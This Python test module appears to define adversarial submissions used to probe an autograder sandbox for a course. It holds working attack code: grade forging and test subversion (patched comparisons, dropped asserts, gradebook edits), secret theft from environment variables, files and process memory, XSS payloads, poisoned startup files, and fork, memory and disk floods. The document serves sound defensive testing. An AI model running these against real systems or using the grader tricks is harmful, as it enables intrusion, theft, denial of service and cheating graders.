"""Attacks by what lies around: the source, the gradebook, the border, secrets, the next student, floods and hangs."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from testing.attacks.attack import RIGHT, SECRET, TELL, VICTIM, WALK, Attack, cell
from testing.five_tasks import CELLS, ESSAY, HOMEWORK


def _tests_do_nothing(book: dict[str, Any]) -> None:
    for name in CELLS:
        cell(book, name)["source"] = "assert True"
        cell(book, name)["metadata"]["nbgrader"].update(locked=False, points=1000)


def _tests_are_skipped(book: dict[str, Any]) -> None:
    for name in CELLS:
        cell(book, name)["metadata"]["tags"] = ["skip-execution"]


def _tests_are_texts(book: dict[str, Any]) -> None:
    for name in CELLS:
        one = cell(book, name)
        one["cell_type"] = "markdown"
        del one["outputs"], one["execution_count"]


def _scores_in_outputs(book: dict[str, Any]) -> None:
    for name in CELLS:
        score = {"output_type": "execute_result", "data": {"text/plain": "1000"}, "metadata": {}, "execution_count": 1}
        cell(book, name)["outputs"] = [score]


def _twice(book: dict[str, Any]) -> None:
    """Every cell a second time, with right functions defined in a locked cell of the student's own."""
    again = json.loads(json.dumps(book["cells"]))
    again[0]["source"] = RIGHT
    for one in again:
        one["id"] += "2"
    book["cells"] += again


def _given_cell(book: dict[str, Any]) -> None:
    """The attack in a cell that is the instructor's: patched numpy, and functions that survive."""
    cell(book, "imports")["source"] = "import numpy as np\nnp.allclose = lambda *a, **k: True\n" + RIGHT


def _added_cells(book: dict[str, Any]) -> None:
    """Right functions in cells without a grade_id, before each test."""
    for name in CELLS:
        where = book["cells"].index(cell(book, name))
        added = {"cell_type": "code", "id": f"x-{name}", "metadata": {}, "source": "grade = check = print",
                 "execution_count": None, "outputs": []}  # fmt: skip
        book["cells"].insert(where, added)


def _script_in_text(book: dict[str, Any]) -> None:
    cell(book, ESSAY)["source"] = (
        "<script>document.title='hacked'</script><img src=x onerror=\"document.title='hacked'\">\n\n"
        "[click](javascript:document.title='hacked') <a href='javascript:1'>x</a>\n\n"
        "<svg onload=document.title='hacked'>\n\n"
        "$\\href{javascript:document.title='hacked'}{x}$ <iframe src=http://127.0.0.1:9></iframe>\n\n"
        "```\n<script>document.title='hacked'</script>\n```\n<style>body{display:none}</style>"
    )


def _endless_line(book: dict[str, Any]) -> None:
    """Whoever looks for the end of this line again and again looks for a quarter of an hour."""
    cell(book, ESSAY)["source"] = "```" + " " * 190_000 + "x"


def _link_to(target: str) -> Callable[[Path], None]:
    def change(place: Path) -> None:
        place.unlink()
        place.symlink_to(place.parents[3] / target)

    return change


def _link_beside(place: Path) -> None:
    (place.parent / "solutions").symlink_to(place.parents[3] / "source")
    (place.parent / "data.csv").symlink_to(place.parents[3] / "secret.txt")


def _folder_link(place: Path) -> None:
    place.unlink()
    place.parent.rmdir()
    place.parent.symlink_to(place.parents[2] / VICTIM / HOMEWORK)


ATTACKS: list[Attack] = [
    # Points, by what lies around
    Attack("reads_source", WALK + f"""
import json
for path in [path for path in found("{HOMEWORK}.ipynb") if "/source/" in path]:
    for one in json.load(open(path))["cells"]:
        text = "".join(one["source"])
        if "return 2 * x" in text or "np.cumsum" in text:
            exec(text.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
"""),
    Attack("reads_hidden_tests", WALK + """
for path in found("tasks.py"):
    scope = {}
    exec(open(path).read(), scope)
    for task in scope["TASKS"]:
        globals()[task.name] = task.judge.__closure__[0].cell_contents
"""),
    Attack("imports_reference", """
import importlib
for name in ("dpcourse.tasks.registry", "dpcourse.tasks.task", "course_tasks", "dpcourse.mechanisms",
             "autograder.examine"):
    try:
        module = importlib.import_module(name)
        exec(RIGHT_ONES)
    except ImportError:
        pass
""".replace("RIGHT_ONES", repr(RIGHT))),
    Attack("reads_installed_package", """
import os, sys
for folder, names, _ in os.walk("/"):
    sys.path += [os.path.join(folder, name) for name in names if name.endswith("packages")]
for name in [name for name in sys.modules if name.startswith("dpcourse")]:
    del sys.modules[name]
sys.meta_path = [one for one in sys.meta_path if "NotHere" not in type(one).__name__]
import dpcourse.mechanisms
""" + RIGHT),
    Attack("redefines_grade", "grade = check = lambda *a, **k: 1000\nimport builtins\nbuiltins.grade = grade"),
    Attack("patches_allclose", "np.allclose = np.array_equal = np.isclose = lambda *a, **k: True"),
    Attack("patches_kstest", "import scipy.stats\nscipy.stats.kstest = lambda *a, **k: (0.0, 1.0)"),
    Attack("patches_abs", "import builtins\nbuiltins.abs = lambda x: 0.0\nbuiltins.float = lambda x: 0.0"),
    Attack("drops_asserts", """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Drop())
"""),
    Attack("rewrites_input", """
get_ipython().input_transformers_post.append(lambda lines: [line for line in lines if "assert" not in line])
"""),
    Attack("tests_do_nothing", change=_tests_do_nothing),
    Attack("tests_are_skipped", change=_tests_are_skipped),
    Attack("tests_are_texts", change=_tests_are_texts),
    Attack("scores_in_outputs", change=_scores_in_outputs),
    Attack("everything_twice", change=_twice),
    Attack("changes_given_cell", change=_given_cell),
    Attack("added_cells", change=_added_cells),
    # Points, by the gradebook
    Attack("writes_gradebook", WALK + """
import sqlite3
for path in found("gradebook.db"):
    book = sqlite3.connect(path)
    book.execute("update grade set auto_score = 100, manual_score = 100")
    book.commit()
"""),
    Attack("writes_gradebook_later", WALK + """
import sqlite3, time
if os.fork() == 0:
    os.setsid()
    time.sleep(3)
    for path in found("gradebook.db"):
        book = sqlite3.connect(path)
        book.execute("update grade set auto_score = 100, manual_score = 100")
        book.commit()
    os._exit(0)
"""),
    Attack("writes_records", WALK + """
for path in [*found("grading"), *found("submitted")]:
    open(path, "a").write(" ")
    exec(RIGHT_ONES)
""".replace("RIGHT_ONES", repr(RIGHT))),
    # Points, by the border
    Attack("forges_answers", """
from autograder.box.inside import child
for number in range(1, 60):
    child.channel.send({"number": number, "answers": [float("nan")], "points": 1000, "passed": True})
"""),
    Attack("forges_verdict", """
from autograder.box.inside import child
def double(x):
    forged = {"verdict": "passed", "points": 1000, "number": 2}
    child.channel.send({**forged, "service": "grade", "arguments": [], "named": {}})
    return 1.0
"""),
    Attack("sends_garbage", """
import os
def double(x):
    for descriptor in range(3, 100):
        try:
            os.write(descriptor, b"\\xff" * 100_000)
        except OSError:
            pass
    return 1.0
"""),
    Attack("asks_for_more", """
from dpcourse import accounting, data
def double(x):
    for room, name in ((accounting, "eval"), (data, "open"), (accounting, "os.system")):
        try:
            getattr(room, name)("__import__('os').system('true')")
            return 2 * x
        except Exception:
            pass
    return 1.0
"""),
    Attack("asks_for_what_is_not_taught_here", """
from dpcourse import accounting
def double(x):
    try:
        accounting.sigma_for(1.0, 1e-5)
    except ValueError:
        return 1.0
    return 2 * x
"""),
    Attack("comparison_lies", """
class Liar(float):
    def __eq__(self, other): return True
    __ne__ = __lt__ = __gt__ = lambda self, other: False
    __sub__ = __rsub__ = __abs__ = lambda self, *other: 0.0
    __hash__ = float.__hash__
def double(x): return Liar(1.0)
def clip(x, low, high): return Liar(1.0)
"""),
    Attack("array_lies", """
class Liar(np.ndarray):
    def __array_ufunc__(self, *a, **k): return True
    def __array_function__(self, *a, **k): return True
def cumulate(values): return values.view(Liar)
class Once:
    def __array__(self, *a, **k): return np.zeros(len(seen))
def spread(values):
    seen[:] = values
    return Once()
seen = [0.0]
"""),
    Attack("objects_in_array", """
class Liar:
    __eq__ = lambda self, other: True
def cumulate(values): return np.array([Liar()] * 4)
"""),
    Attack("not_numbers", "def double(x): return float('nan')\ndef spread(values): return float('inf')"),
    Attack("looks_up_the_stack", """
import gc, inspect
def hunted(x):
    for frame in inspect.stack():
        for name, value in {**frame.frame.f_locals, **frame.frame.f_globals}.items():
            if name in ("right", "reference", "expected", "judge", "task", "tasks"):
                return value
    for thing in gc.get_objects():
        if type(thing).__name__ in ("Task", "Interview", "Mistake"):
            return thing
def double(x):
    return 2 * x if hunted(x) is not None else 0.5
"""),
    Attack("remembers_public_probes", """
def double(x):
    return {5.0: 10.0}.get(round(x, 3), 0.5)
"""),
    # Secrets
    Attack("reads_environment", TELL + """
import glob, os
tell(os.environ)
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        tell(open(path).read())
    except OSError:
        pass
"""),
    Attack("reads_files", TELL + """
import os
for folder, folders, files in [*os.walk(os.path.abspath("../../..")), *os.walk("/")]:
    if folder in ("/usr", "/proc", "/sys", "/packages", "/dev"):
        folders[:] = []
    for name in files:
        path = os.path.join(folder, name)
        try:
            if os.path.getsize(path) < 100_000:
                tell(open(path, errors="replace").read())
        except OSError:
            pass
"""),
    Attack("reads_process_memory", TELL + """
import ctypes, os
for pid in (1, os.getppid()):
    libc = ctypes.CDLL(None, use_errno=True)
    if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0:
        raise ValueError("the secret is in reach: SECRET")
    try:
        for line in open(f"/proc/{pid}/maps"):
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            with open(f"/proc/{pid}/mem", "rb") as memory:
                memory.seek(start)
                tell(memory.read(min(end - start, 10**7)))
    except (OSError, ValueError, OverflowError) as error:
        if "secret" in str(error):
            raise
""".replace("SECRET", SECRET)),
    Attack("reads_others", TELL + WALK + """
for path in found("submitted"):
    tell(open(path).read())
"""),
    Attack("opens_network", """
import socket
for address in (("127.0.0.1", 22), ("1.1.1.1", 53)):
    try:
        socket.create_connection(address, timeout=1)
        exec(RIGHT_ONES)
    except OSError as error:
        if "refused" in str(error).lower():
            exec(RIGHT_ONES)
""".replace("RIGHT_ONES", repr(RIGHT))),
    Attack("links_to_source", folder=_link_to(f"source/{HOMEWORK}/{HOMEWORK}.ipynb")),
    Attack("links_to_victim", folder=_link_to(f"submitted/{VICTIM}/{HOMEWORK}/{HOMEWORK}.ipynb")),
    Attack("links_folder", folder=_folder_link),
    Attack("links_beside", TELL + """
import glob
for path in glob.glob("**/*", recursive=True) + glob.glob("/home/student/**/*", recursive=True):
    try:
        tell(open(path).read())
    except OSError:
        pass
""", folder=_link_beside),
    # Whoever opens the result
    Attack("script_in_text", change=_script_in_text),
    Attack("endless_line_in_text", change=_endless_line),
    Attack("script_in_error", "def double(x): raise ValueError(\"<script>document.title='hacked'</script>\")"),
    Attack("script_in_repr", """
class Odd:
    def __repr__(self): return "<img src=x onerror=\\"document.title='hacked'\\">"
def double(x): return Odd()
"""),
    Attack("script_in_print", "print(\"<script>document.title='hacked'</script>\")"),
    # The next student
    Attack("leaves_startup_file", """
import os, site
for place in ("~/.ipython/profile_default/startup/x.py", "~/sitecustomize.py", "/tmp/numpy.py", "/dev/shm/left",
              site.getusersitepackages() + "/usercustomize.py"):
    place = os.path.expanduser(place)
    os.makedirs(os.path.dirname(place), exist_ok=True)
    open(place, "w").write("import builtins; builtins.abs = None; raise SystemExit")
"""),
    Attack("finds_what_was_left", """
import os
if any(os.listdir(place) for place in ("/tmp", "/dev/shm", os.path.expanduser("~"))):
    exec(RIGHT_ONES)
""".replace("RIGHT_ONES", repr(RIGHT))),
    Attack("spoils_packages", """
import numpy, os
for path in (numpy.__file__, os.__file__, "/inside/autograder/box/wire.py", "/usr/bin/env"):
    try:
        open(path, "a").write("raise SystemExit")
        exec(RIGHT_ONES)
    except OSError:
        pass
np.sum = np.ndarray = None
""".replace("RIGHT_ONES", repr(RIGHT))),
    Attack("slows_the_box", """
import os, resource
for trick in (lambda: resource.prlimit(1, resource.RLIMIT_CPU, (1, 1)), lambda: os.setpriority(os.PRIO_PROCESS, 1, 19),
              lambda: os.sched_setaffinity(1, {0}), lambda: os.kill(1, 19), lambda: os.kill(1, 9),
              lambda: os.kill(1, 2),
              lambda: os.kill(1, 15)):
    try:
        trick()
    except OSError:
        pass
"""),
    Attack("kills_everybody", "import os, signal\nos.kill(-1, signal.SIGKILL)"),
    Attack("unshares", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000) == 0 or libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
    exec(RIGHT_ONES)
""".replace("RIGHT_ONES", repr(RIGHT))),
    Attack("shared_memory", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.shmget(4711, 4096, 0o1666) >= 0:
    exec(RIGHT_ONES)
""".replace("RIGHT_ONES", repr(RIGHT))),
    # To outlive, to flood, to hang
    Attack("forks_many", """
import os, time
for _ in range(200):
    if os.fork() == 0:
        time.sleep(1000)
"""),
    Attack("starts_programs", """
import os, subprocess
try:
    subprocess.Popen(['sleep', '1000'])
finally:
    os.system('sleep 1000 &')
"""),
    Attack("many_threads", """
import threading, time
for _ in range(3000):
    threading.Thread(target=time.sleep, args=(1000,)).start()
"""),
    Attack("takes_memory", "kept = [bytearray(10**8) for _ in range(200)]"),
    Attack("fills_disk", """
import os
for place in ("/tmp/a", "/dev/shm/a", os.path.expanduser("~/a")):
    try:
        with open(place, "wb") as file:
            for _ in range(3000):
                file.write(bytes(10**6))
    except OSError:
        pass
"""),
    Attack("prints_a_flood", """
import os
print('x' * 60_000_000)
os.write(1, b'x' * 10_000_000)
os.write(2, b'y' * 10_000_000)
"""),
    Attack("answers_too_much", """
def double(x): return np.zeros(10**8)
def cumulate(values): return [[[[1.0] * 1000] * 100] * 100]
"""),
    Attack("nests_deeply", """
def double(x):
    nested = []
    for _ in range(100_000):
        nested = [nested]
    return nested
"""),
    Attack("swallows_interrupts", """
import signal
for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
def double(x):
    signal.setitimer(signal.ITIMER_REAL, 0)
    while True:
        try:
            while True: pass
        except BaseException:
            pass
"""),
    Attack("hangs_at_once", "while True:\n    pass"),
    Attack("stops_itself", "import os, signal\ndef double(x): os.kill(os.getpid(), signal.SIGSTOP)"),
    Attack("closes_descriptors", "import os\nos.closerange(0, 1000)"),
    Attack("leaves", "import os\nos._exit(0)"),
    Attack("crashes_python", "import ctypes\ndef double(x): return ctypes.string_at(0)"),
    Attack("asks_for_input", "def double(x): return float(input())"),
    # To break the box, or whoever writes the result down, for everybody
    Attack("unwritable_error", "def double(x): raise ValueError('\\ud800')\ndef clip(x, low, high): return '\\udfff'"),
    Attack("locks_its_folders", """
import os, tempfile
for place in (tempfile.gettempdir(), os.path.expanduser("~"), "/dev/shm"):
    os.makedirs(place + "/locked/inner/inner", exist_ok=True)
    os.chmod(place + "/locked/inner", 0)
    os.chmod(place + "/locked", 0)
    if place.startswith("/home/student"):
        os.chmod(place, 0)
os._exit(0)
"""),
    Attack("digs_deep", """
import os, tempfile
os.chdir(tempfile.gettempdir())
for _ in range(3_000):
    os.mkdir("d")
    os.chdir("d")
os._exit(0)
"""),
    Attack("many_empty_files", """
import os, tempfile, time
os.mkdir(tempfile.gettempdir() + "/many")
for number in range(30_000):
    open(f"{tempfile.gettempdir()}/many/{number}", "w").close()
time.sleep(2)
exec(RIGHT_ONES)
""".replace("RIGHT_ONES", repr(RIGHT))),
    Attack("holds_files_of_others", """
import fcntl, glob, os, signal
signal.signal(signal.SIGIO, signal.SIG_IGN)
for path in glob.glob(os.path.dirname(np.__file__) + "/**/*.py", recursive=True)[-100:]:
    descriptor = os.open(path, os.O_RDONLY)
    try:
        fcntl.fcntl(descriptor, fcntl.F_SETLEASE, fcntl.F_WRLCK)
        exec(RIGHT_ONES)
    except OSError:
        os.close(descriptor)
""".replace("RIGHT_ONES", repr(RIGHT))),
    Attack("settings_of_the_kernel", """
import os
for folder, folders, files in os.walk("/proc"):
    folders[:] = [name for name in folders if not name.isdecimal() and name not in ("self", "thread-self")]
    if any(os.access(os.path.join(folder, name), os.W_OK) for name in files):
        exec(RIGHT_ONES)
""".replace("RIGHT_ONES", repr(RIGHT))),
    Attack("memory_without_address", """
import os
kept = []
for _ in range(60):
    kept.append(os.memfd_create("kept"))
    os.posix_fallocate(kept[-1], 0, 16 * 2**20)
exec(RIGHT_ONES)
""".replace("RIGHT_ONES", repr(RIGHT))),
]  # fmt: skip
